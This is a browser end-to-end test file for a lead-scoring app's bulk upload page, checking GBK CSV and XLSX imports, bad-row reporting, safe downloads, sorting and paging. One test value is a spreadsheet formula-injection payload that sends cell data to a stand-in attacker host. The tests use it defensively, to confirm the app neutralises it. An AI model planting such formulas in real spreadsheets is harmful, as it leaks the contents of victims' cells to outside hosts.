/** The bulk scoring page in a real browser, as a new user would use it: GBK CSV and XLSX with bad rows. */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import ExcelJS from 'exceljs';
import { startServer, type RunningServer } from './server.js';
import { ARTIFACTS, launchChromium, overflowX, signInPage, visibleTextProblems } from './browser.js';
import { syntheticLeads } from '../../scripts/synthetic.js';
import { demoSeed } from '../helpers/app.js';

let server: RunningServer;
let browser: Browser;
let page: Page;
const problems: string[] = [];
const N = 2000;
const BAD = [5, 777, 1500]; // rows without summary or industry
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")';

function rows(): string[][] {
  return syntheticLeads(demoSeed(), N, 5).map((l, i) => [
    l.name!,
    BAD.includes(i + 1) ? '' : l.summary!,
    String(l.floorAreaM2 ?? ''),
    i === 1 ? '约一千万?' : String(l.investmentWan ?? ''),
    i === 0 ? HYPERLINK : '',
  ]);
}

beforeAll(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  server = await startServer();
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1280, height: 900 }, locale: 'zh-CN', acceptDownloads: true });
  page.on('console', (m) => m.type() === 'error' && problems.push(m.text()));
  page.on('pageerror', (e) => problems.push(e.message));
  await signInPage(page, server.url, 'admin', server.adminPassword);
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

async function uploadAndWait(path: string) {
  await page.goto(`${server.url}/upload.html`);
  await page.setInputFiles('#file', path);
  await page.click('#upload-button');
  await page.waitForFunction(() => document.querySelector('#job-text')?.textContent?.startsWith('已完成'), null, { timeout: 120_000 });
  expect(await page.locator('#job-progress').evaluate((p) => (p as HTMLProgressElement).value)).toBe(1);
}

describe('the bulk scoring page', () => {
  it('scores a GBK CSV: progress to 100 %, exactly the bad rows listed, a safe CSV download', async () => {
    const header = '项目名称,项目简介,面积需求(平方米),总投资(万元),备注';
    const csv = [header, ...rows().map((r) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(','))].join(
      '\r\n',
    );
    const file = join(ARTIFACTS, 'leads-gbk.csv');
    writeFileSync(file, iconv.encode(csv, 'gbk'));
    await uploadAndWait(file);
    expect(await page.locator('#job-text').textContent()).toContain(`${(N - 4).toLocaleString('zh-CN')} 行已评分`);
    // rows as Excel shows them: the header is row 1, so data row 2 (约一千万?) is Excel's row 3
    const errorRows = await page.locator('#errors-body tr td:first-child').allTextContents();
    expect(errorRows).toEqual(['3', ...BAD.map((b) => String(b + 1))]);
    expect(await page.locator('#errors-body').textContent()).toContain('第 3 行「总投资(万元)」');
    await page.screenshot({ path: `${ARTIFACTS}/upload-1-done.png`, fullPage: true });
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#dl-csv')]);
    const saved = join(ARTIFACTS, 'results.csv');
    await download.saveAs(saved);
    const bytes = readFileSync(saved);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    // every row kept: the sheet row first, the problem last
    expect(text.slice(1).startsWith('原表行号,项目名称,')).toBe(true);
    expect(text).toContain('推荐园区,得分,备选园区,排除原因,推荐理由,问题说明');
    expect(text.trim().split('\r\n')).toHaveLength(N + 1);
    expect(text).toMatch(/\r\n778,[^\r]*项目简介和所属行业至少填写一项/);
    expect(text).toContain(`'${HYPERLINK.replaceAll('"', '""')}`);
    expect(problems).toEqual([]);
  });

  it('scores an XLSX the same way and its XLSX download holds no formula, text as text', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('线索');
    ws.addRow(['项目名称', '项目简介', '面积需求(平方米)', '总投资(万元)', '备注']);
    for (const r of rows()) ws.addRow(r.map((c, i) => (i >= 2 && i <= 3 && /^\d+$/.test(c) ? Number(c) : c)));
    const file = join(ARTIFACTS, 'leads.xlsx');
    await wb.xlsx.writeFile(file);
    await uploadAndWait(file);
    expect(await page.locator('#errors-body tr').count()).toBe(4);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#dl-xlsx')]);
    const saved = join(ARTIFACTS, 'results.xlsx');
    await download.saveAs(saved);
    const back = new ExcelJS.Workbook();
    await back.xlsx.readFile(saved);
    const sheet = back.worksheets[0]!;
    expect(sheet.rowCount).toBe(N + 1); // bad rows kept, with their problem
    expect(sheet.getRow(6).getCell(1).value).toBe(6);
    expect(String(sheet.getRow(6).getCell(sheet.columnCount).value)).toContain('第 6 行');
    const widths = sheet.columns.map((c) => c.width ?? 0);
    expect(Math.min(...widths)).toBeGreaterThanOrEqual(6);
    expect(Math.max(...widths)).toBeGreaterThan(20); // the reasons column is wide, not the default
    let formulas = 0;
    sheet.eachRow((row) => row.eachCell((cell) => void (cell.formula || cell.type === ExcelJS.ValueType.Formula ? formulas++ : 0)));
    expect(formulas).toBe(0);
    // a string cell, never a formula: the text as typed, with no visible apostrophe (the CSV keeps its guard)
    expect(sheet.getRow(2).getCell(6).value).toBe(HYPERLINK);
    expect(sheet.getRow(2).getCell(6).type).toBe(ExcelJS.ValueType.String);
    await page.screenshot({ path: `${ARTIFACTS}/upload-2-xlsx.png`, fullPage: true });
    expect(problems).toEqual([]);
  });

  it('shows the results as a sortable, paged table with the bad rows kept, at 1440 and 390 px', async () => {
    await page.setViewportSize({ width: 1440, height: 900 });
    await page.locator('#results-grid tbody tr').first().waitFor();
    expect(await page.locator('#results-page').textContent()).toBe(`第 1–50 行，共 ${N.toLocaleString('zh-CN')} 行`);
    const lines = await page.locator('#results-grid tbody tr td:first-child').allTextContents();
    expect(lines.slice(0, 5)).toEqual(['2', '3', '4', '5', '6']);
    expect(await page.locator('#results-grid tbody tr.bad-row').count()).toBe(2); // Excel rows 3 and 6 on the first page
    // sorted by score, highest first
    await page.locator('#results-grid th button', { hasText: '得分' }).click();
    await page.waitForFunction(() => document.querySelector('#results-grid th[aria-sort=descending]'));
    const scores = (await page.locator('#results-grid tbody tr td:nth-child(4)').allTextContents()).map(Number);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
    await page.click('#results-next');
    await page.waitForFunction(() => document.querySelector('#results-page')?.textContent?.startsWith('第 51–100 行'));
    const next = (await page.locator('#results-grid tbody tr td:nth-child(4)').allTextContents()).map(Number);
    expect(next[0]!).toBeLessThanOrEqual(scores.at(-1)!);
    await page.click('#results-prev');
    await page.waitForFunction(() => document.querySelector('#results-page')?.textContent?.startsWith('第 1–50 行'));
    expect(await visibleTextProblems(page)).toEqual([]);
    await page.locator('#job-results').evaluate((e) => e.scrollIntoView({ block: 'start' }));
    await page.screenshot({ path: `${ARTIFACTS}/upload-3-results-1440.png` });
    await page.setViewportSize({ width: 390, height: 844 });
    await page.selectOption('#results-sort', 'line:asc');
    await page.waitForFunction(() => document.querySelector('#results-grid tbody tr td')?.textContent === '2');
    expect(await overflowX(page)).toBe(0);
    await page.locator('#job-results').evaluate((e) => e.scrollIntoView({ block: 'start' }));
    await page.screenshot({ path: `${ARTIFACTS}/upload-3-results-390.png` });
    expect(problems).toEqual([]);
  });
});
